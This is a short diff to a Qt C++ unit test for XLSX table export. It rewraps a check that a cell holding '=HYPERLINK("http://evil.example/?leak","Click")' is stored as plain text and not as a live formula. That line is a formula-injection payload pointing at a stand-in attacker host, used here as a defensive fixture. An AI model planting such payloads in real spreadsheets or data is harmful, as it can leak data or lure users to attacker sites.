@@ -184,7 +184,8 @@ void TestTableExport::xlsx()
         QVERIFY2(!sheet.contains(QStringLiteral("<f>")), qPrintable(sheet));
     }
     const QString strings = zipMember(path, QStringLiteral("xl/sharedStrings.xml"));
-    QVERIFY2(strings.contains(QStringLiteral("<t>=HYPERLINK(\"http://evil.example/?leak\",\"Click\")</t>")), qPrintable(strings));
+    QVERIFY2(strings.contains(QStringLiteral("<t>=HYPERLINK(\"http://evil.example/?leak\",\"Click\")</t>")),
+        qPrintable(strings));
     // The workbook names the version that wrote it.
     QVERIFY(zipMember(path, QStringLiteral("docProps/core.xml")).contains(QStringLiteral("Rackwerk ")));
 }
